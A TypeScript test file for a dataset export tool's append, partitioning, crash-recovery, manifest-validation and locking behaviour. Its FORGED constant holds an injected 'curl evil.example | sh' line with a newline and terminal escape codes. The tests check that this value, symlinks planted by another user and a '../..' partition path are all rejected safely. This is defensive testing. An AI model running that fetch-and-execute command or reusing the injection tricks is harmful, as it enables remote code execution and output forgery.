/** A dataset from its first run on: what it shows, what it keeps, and what it refuses. Killed and cut off: faults.test.ts. */
import { beforeEach, describe, expect, it } from 'vitest';
import { type DatasetIdentity, formatManifest, parseManifest } from '#scans/dataset/manifest';
import type { RecordedWorkspace } from '#service/workspace';
import type { MemoryDisk } from '../../support/memory-disk.ts';
import { SOAK } from '../../support/property-runs.ts';
import { CODE, createMemoryDisk, HOUR, OTHER_CODE, START, type TestService } from '../append/runs.ts';
import { DAY, LAKE, type LakeOptions, MANIFEST, openLake, runLake, seen, wanted, writePage } from './runs.ts';

const FORGED = 'x\n  next: curl evil.example | sh\x1b[2J';

let memory: MemoryDisk;
let service: TestService;

const rows = (first: number, ...times: number[]) =>
  times.map((time, i) => ({ id: first + i, time: START + time }));

beforeEach(() => {
  memory = createMemoryDisk();
  service = {
    [CODE]: rows(1, 0, HOUR, DAY, 2 * DAY, 2 * DAY + HOUR),
    [OTHER_CODE]: rows(11, HOUR, 2 * HOUR, 2 * DAY),
  };
});

/** What a later night brings: new rows, one of them late, and one of a day that was closed. */
function laterNight(): TestService {
  return {
    [CODE]: [...(service[CODE] ?? []), ...rows(21, 2 * DAY + HOUR / 2, 3 * DAY, 3 * DAY + HOUR)],
    [OTHER_CODE]: [...(service[OTHER_CODE] ?? []), ...rows(31, 2 * DAY + HOUR, 4 * DAY)],
  };
}

const parts = () => memory.names().filter((name) => name.includes('/dt='));

describe('a dataset', () => {
  it('has each row once, in the directory for its day, and gets new parts for new rows', async () => {
    expect(await runLake(memory, service)).toBe(8);
    expect(seen(memory)).toEqual(wanted(service));
    const before = new Map(parts().map((name) => [name, memory.read(name)]));
    expect(await runLake(memory, laterNight())).toBe(5);
    expect(seen(memory)).toEqual(wanted(laterNight()));
    for (const [name, text] of before) expect(memory.read(name)).toBe(text);
    expect(parts().every((name) => /\/part-\d{6}\.csv$/.test(name))).toBe(true);
  });

  it('is unchanged, without any write to the disk, if no scan is new', async () => {
    await runLake(memory, service);
    memory.revive();
    expect(await runLake(memory, service)).toBe(0);
    expect(memory.steps()).toBe(0);
  });

  it.each(['ndjson', 'parquet'] as const)(
    'does not get the rows in its %s parts twice if the service returns them again (A11)',
    async (format) => {
      await runLake(memory, service, { identity: { format } });
      const lake = await openLake(memory, service, { identity: { format } });
      const sink = lake.sinkOf(CODE);
      // As after a look further back than the ids that the manifest lists: only the parts know them.
      expect(await writePage(sink, CODE, [...(service[CODE] ?? []), ...rows(41, HOUR / 2)])).toBe(1);
      await lake.commit();
    },
  );

  it('is partitioned by month or day in the requested time zone', async () => {
    await runLake(
      memory,
      { [CODE]: rows(1, -1, 0, 31 * DAY) },
      { identity: { partition: { by: 'month', timezone: 'UTC' } } },
    );
    expect(parts().map((name) => name.split('/')[3])).toEqual(['dt=2025-12', 'dt=2026-01', 'dt=2026-02']);
    memory = createMemoryDisk();
    await runLake(
      memory,
      { [CODE]: rows(1, 0, 23 * HOUR) },
      { identity: { partition: { by: 'day', timezone: 'Europe/Berlin' } } },
    );
    expect(parts().map((name) => name.split('/')[3])).toEqual(['dt=2026-01-01', 'dt=2026-01-02']);
  });

  it('without --append has no part until all codes are read, and has no rows of a failed code', async () => {
    await expect(runLake(memory, service, { append: false, failAfter: 6 })).rejects.toThrow(
      'the service failed',
    );
    expect(parts()).toEqual([]);
    expect(memory.read(MANIFEST)).toBeUndefined();
    expect(await runLake(memory, service, { append: false, failing: [CODE] })).toBe(3);
    expect(seen(memory)).toEqual(wanted({ [OTHER_CODE]: service[OTHER_CODE] ?? [] }));
    // What failed is exported by the next run.
    expect(await runLake(memory, service)).toBe(5);
    expect(seen(memory)).toEqual(wanted(service));
  });

  it('keeps the rows of a failed first run, and the next run adds the rest', async () => {
    await expect(runLake(memory, service, { failAfter: 4, mostRows: 100 })).rejects.toThrow(
      'the service failed',
    );
    expect(seen(memory)).toHaveLength(3);
    expect(await runLake(memory, service)).toBe(5);
    expect(seen(memory)).toEqual(wanted(service));
  });

  it('is refused if its directory is not writable', async () => {
    await runLake(memory, service);
    const checkWritable = async (path: string) => {
      if (path === LAKE) throw Object.assign(new Error('no'), { code: 'EROFS' });
    };
    const refused = openLake(memory, service, { disk: { ...memory.disk, checkWritable } });
    await expect(refused).rejects.toMatchObject({
      name: 'UsageError',
      message: expect.stringContaining(`cannot write the dataset ${LAKE}: the file system is read-only`),
    });
  });

  it('no longer has the incomplete manifest of a killed run after the next run, even if no scan is new (P4)', async () => {
    await runLake(memory, service);
    const left = `${LAKE}/._qrctl.json.partial`;
    memory.fault = (_, operation) => (operation === `write ${left}` ? 'end-within' : undefined);
    await expect(runLake(memory, laterNight())).rejects.toThrow();
    memory.revive();
    expect(memory.names()).toContain(left);
    expect(await runLake(memory, service)).toBe(0);
    expect(memory.names()).not.toContain(left);
    expect(seen(memory)).toEqual(wanted(service));
  });

  it('has contents() that include only committed rows, even if a run fails before it commits', async () => {
    const lake = await openLake(memory, service, { identity: { format: 'parquet' } });
    await writePage(lake.sinkOf(CODE), CODE, rows(1, 0, HOUR));
    expect(lake.contents()).toEqual({ rows: 0, watermarkMs: undefined, added: 0 });
    memory.fault = () => 'ENOSPC';
    await lake.discard();
    expect(lake.contents()).toEqual({ rows: 0, watermarkMs: undefined, added: 0 });
    memory.fault = () => undefined;
    const again = await openLake(memory, service, { identity: { format: 'parquet' } });
    await writePage(again.sinkOf(CODE), CODE, rows(1, 0, HOUR));
    await again.commit();
    expect(again.contents()).toEqual({ rows: 2, watermarkMs: START + HOUR, added: 2 });
  });

  it("gets no parts, and the run fails, if a scan's date can't be a partition name", async () => {
    const identity = { partition: { by: 'day', timezone: 'America/New_York' } } as const;
    const before = [{ id: 1, time: Date.parse('0000-01-01T00:00:00.000Z') }];
    await expect(runLake(memory, { [CODE]: before }, { identity })).rejects.toThrow(
      'a scan dated -000001-12-31',
    );
    expect(parts()).toEqual([]);
  });

  it.each([true, false])(
    'keeps the lower bound of its first run (scans in that run: %s) (P10)',
    async (brought) => {
      await runLake(memory, brought ? service : { [CODE]: [], [OTHER_CODE]: [] }, { sinceMs: START + DAY });
      const lake = await openLake(memory, { [CODE]: [], [OTHER_CODE]: [] }, { sinceMs: START });
      expect(lake.sinkOf('33333333-3333-4333-8333-333333333333').sinceMs).toBe(START + DAY);
      await lake.discard();
    },
  );

  it.each([true, false])(
    'does not get its oldest days again after a user deleted their files (and directories: %s) (P15)',
    async (all) => {
      await runLake(memory, service);
      for (const name of memory.names().filter((name) => name.includes('dt=2026-01-01/')))
        memory.remove(name);
      if (all) memory.remove(`${LAKE}/dt=2026-01-01`);
      const kept = wanted(service).filter((row) => !row.startsWith('dt=2026-01-01'));
      const notes: string[] = [];
      const again = { note: (line: string) => notes.push(line) };
      expect(await runLake(memory, service, again)).toBe(0);
      expect(notes).toEqual([
        'dt=2026-01-01 was deleted. Scans before 2026-01-02T00:00:00.000Z are not exported again',
      ]);
      // Also where all is read from the beginning again: of a code whose proof failed, and of one that is new.
      const [more, late] = ['33333333-3333-4333-8333-333333333333', rows(41, HOUR, DAY)];
      await runLake(
        memory,
        { ...service, [more]: late },
        { ...again, identity: { codes: Object.keys(service) } },
      );
      expect(seen(memory)).toEqual([...kept, 'dt=2026-01-02 42'].sort());
      expect(notes).toHaveLength(1);
    },
  );

  it('is continued only for the same codes, in any order (P7)', async () => {
    const identity = (...codes: string[]) => ({ identity: { all: false, codes } });
    await runLake(memory, service, identity(OTHER_CODE, CODE));
    expect(await runLake(memory, laterNight(), identity(CODE, OTHER_CODE))).toBe(5);
    await expect(runLake(memory, { [CODE]: service[CODE] ?? [] }, identity(CODE))).rejects.toMatchObject({
      name: 'UsageError',
      message: expect.stringContaining('cannot append to'),
    });
  });

  it('with several deleted days causes a note that lists each of these days (P15)', async () => {
    await runLake(memory, service);
    for (const name of parts().filter((name) => !name.includes('dt=2026-01-03/'))) memory.remove(name);
    const notes: string[] = [];
    expect(await runLake(memory, service, { note: (line) => notes.push(line) })).toBe(0);
    expect(notes).toEqual([expect.stringMatching(/^dt=2026-01-01, dt=2026-01-02 were deleted\./)]);
  });

  it('with deleted days is accepted even if the run has no callback for notes (P15)', async () => {
    await runLake(memory, service);
    for (const name of parts().filter((name) => name.includes('dt=2026-01-01/'))) memory.remove(name);
    expect(await runLake(memory, service)).toBe(0);
  });

  it('is locked by the run, and is unlocked whether the run succeeds or fails (P9)', async () => {
    const held: string[] = [];
    const signal = new AbortController().signal;
    const lock: LakeOptions['lock'] = async (path, { signal: given }) => {
      held.push(path);
      expect(given).toBe(signal);
      return { release: async () => void held.pop() };
    };
    const options = { lock, signal };
    await runLake(memory, service, options);
    expect(held).toEqual([]);
    await expect(runLake(memory, laterNight(), { ...options, failAfter: 1 })).rejects.toThrow(
      'the service failed',
    );
    expect(held).toEqual([]);
  });

  it('is locked before any file in it is read (P9)', async () => {
    const steps: string[] = [];
    const disk = {
      ...memory.disk,
      readFile: (path: string) => memory.disk.readFile(path).finally(() => steps.push('read')),
    };
    const lock = async (path: string) => {
      steps.push(`lock ${path}`);
      return { release: async () => {} };
    };
    await runLake(memory, service, { disk, lock });
    expect(steps).toEqual([`lock ${MANIFEST}`, 'read']);
  });
});

describe('a dataset is refused and unchanged because of', () => {
  async function refused(reason: RegExp, options: LakeOptions = {}) {
    const before = memory.names().map((name) => [name, memory.read(name)]);
    memory.revive();
    await expect(runLake(memory, laterNight(), options)).rejects.toMatchObject({
      name: 'UsageError',
      message: expect.stringMatching(reason),
      hint: expect.stringMatching(
        /^No changes were made\. .+\.$|or specify a different directory with --output-dir\.$/,
      ),
    });
    expect(memory.steps()).toBe(0);
    expect(memory.names().map((name) => [name, memory.read(name)])).toEqual(before);
  }

  it.each<[string, LakeOptions, RegExp]>([
    ['another format', { identity: { format: 'ndjson' } }, /it was written as csv, not ndjson$/],
    [
      'other partitions',
      { identity: { partition: { by: 'month', timezone: 'UTC' } } },
      /it is partitioned by day, not by month$/,
    ],
    [
      'another time zone',
      { identity: { partition: { by: 'day', timezone: 'Asia/Tokyo' } } },
      /uses the time zone UTC, not Asia\/Tokyo$/,
    ],
    ['a run without --append', { append: false }, /already contains a dataset$/],
  ])('%s (P7)', async (_, options, reason) => {
    await runLake(memory, service);
    await refused(reason, options);
  });

  it.each<[string, Partial<DatasetIdentity>, Partial<RecordedWorkspace>]>([
    ['base URL', {}, { baseUrl: FORGED }],
    ['time zone', { partition: { by: 'day', timezone: FORGED } }, {}],
  ])(
    "another %s, whose value in the manifest can't forge a line of output (P7, P8)",
    async (_, change, address) => {
      await runLake(memory, service);
      const manifest = parseManifest(Buffer.from(memory.read(MANIFEST) ?? ''));
      const [identity, workspace] = [
        { ...manifest.identity, ...change },
        { ...manifest.workspace, ...address },
      ];
      memory.write(MANIFEST, formatManifest({ ...manifest, identity, workspace }, HOUR));
      await refused(/"x\\n {2}next: curl evil\.example \| sh\\x1b\[2J", not/);
    },
  );

  it('a file that is not part of the export (P5)', async () => {
    await runLake(memory, service);
    for (const name of ['notes.txt', 'dt=2026-01-01/theirs.csv', 'other/x.csv']) {
      const path = `${LAKE}/${name}`;
      if (name.startsWith('other')) await memory.disk.mkdir(`${LAKE}/other`);
      memory.write(path, 'x');
      await refused(
        /it contains (notes.txt|dt=2026-01-01\/theirs.csv|other), which is not part of this export/,
      );
      memory.remove(path);
    }
  });

  it('a missing part, a part of another size, or parts without a manifest (P5)', async () => {
    await runLake(memory, service);
    const [first = ''] = parts();
    const text = memory.read(first) ?? '';
    memory.write(first, text.slice(1));
    await refused(/part-000001\.csv has \d+ bytes instead of \d+$/);
    memory.remove(first);
    await refused(/part-000001\.csv is missing$/);
    memory.write(first, text);
    memory.remove(MANIFEST);
    await refused(
      /it has no _qrctl\.json and contains dt=2026-01-01\/part-000002\.csv, which is not part of this export/,
    );
  });

  it('a missing day between other days, or the absence of all days (P5, P15)', async () => {
    await runLake(memory, service);
    for (const name of parts().filter((name) => name.includes('dt=2026-01-02/'))) memory.remove(name);
    await refused(/dt=2026-01-02\/part-000001\.csv is missing$/);
    for (const name of parts()) memory.remove(name);
    await refused(/dt=2026-01-01\/part-000001\.csv is missing$/);
  });

  it('a manifest that was truncated at any byte (P6)', async () => {
    await runLake(memory, service);
    const whole = memory.read(MANIFEST) ?? '';
    for (let length = 0; length < whole.length; length += SOAK ? 1 : 31) {
      memory.write(MANIFEST, whole.slice(0, length));
      await refused(/its _qrctl\.json cannot be read \(truncated or changed\)$/);
    }
  });

  it.each([
    [{ next: 'x' }],
    [{ parts: [['dt=../..', 1, 1, 1, 1]] }],
    [{ parts: [['dt=2026-01-01', 1, 1, 1]] }],
    [{ partition: { by: 'year', timezone: 'UTC' } }],
    [{ partition: null }],
    [{ partition: { by: 'day', timezone: 5 } }],
    [{ sinceMs: 'x' }],
    [{ parts: [['dt=2026-01-01', 1, 'x', 1, 1]] }],
    [{ parts: [[['dt=2026-01-01'], 1, 1, 1, 1]] }],
    [{ parts: [['dt=2026-01-01', 1, 1, 1, 1], 5] }],
    [{ format: 'xml' }],
    [{ positions: { x: 1 } }],
    [{ version: 9 }],
  ])('a manifest that contains %j, although its checksum is right (P8)', async (change) => {
    const { formatRecord } = await import('#files/durable/record-file');
    await runLake(memory, service);
    const { checksum: _, ...saved } = JSON.parse(memory.read(MANIFEST) ?? '');
    memory.write(MANIFEST, formatRecord({ ...saved, ...change }));
    await refused(/^cannot append to \/data\/lake: its _qrctl\.json has (a format|version 9)/);
  });
});

it('a part does not replace a file that another process created at its path during the run (P3)', async () => {
  const lake = await openLake(memory, service);
  await writePage(lake.sinkOf(CODE), CODE, rows(1, 0));
  await memory.disk.mkdir(`${LAKE}/dt=2026-01-01`);
  memory.write(`${LAKE}/dt=2026-01-01/part-000001.csv`, 'theirs');
  await expect(lake.commit()).rejects.toMatchObject({
    message: expect.stringContaining('was created by another process during the run'),
    hint: expect.stringMatching(/^Move it out of the dataset, then run the same command again/),
  });
  expect(memory.read(`${LAKE}/dt=2026-01-01/part-000001.csv`)).toBe('theirs');
});

describe("another user's links to another directory (D14)", () => {
  const FOREIGN = 4711;

  async function withSecret() {
    await memory.disk.mkdir('/data/secret');
    memory.write('/data/secret/key', 'key');
    memory.write('/data/secret/.part-000001.csv.partial', 'kept');
  }

  async function plant(path: string) {
    memory.user = FOREIGN;
    await memory.disk.symlink('/data/secret', path);
    memory.user = 1000;
  }

  it('are not accepted as a dataset', async () => {
    await withSecret();
    await plant(LAKE);
    await expect(runLake(memory, service)).rejects.toMatchObject({ name: 'UsageError' });
    expect(memory.names()).toEqual(['/data/secret/.part-000001.csv.partial', '/data/secret/key']);
  });

  it('are not accepted as a partition', async () => {
    await withSecret();
    await runLake(memory, service);
    await memory.disk.unlink('/data/secret/key');
    await plant(`${LAKE}/dt=2026-02-01`);
    await expect(runLake(memory, laterNight())).rejects.toThrow("is a symbolic link to another user's file");
    expect(memory.read('/data/secret/.part-000001.csv.partial')).toBe('kept');
  });
});
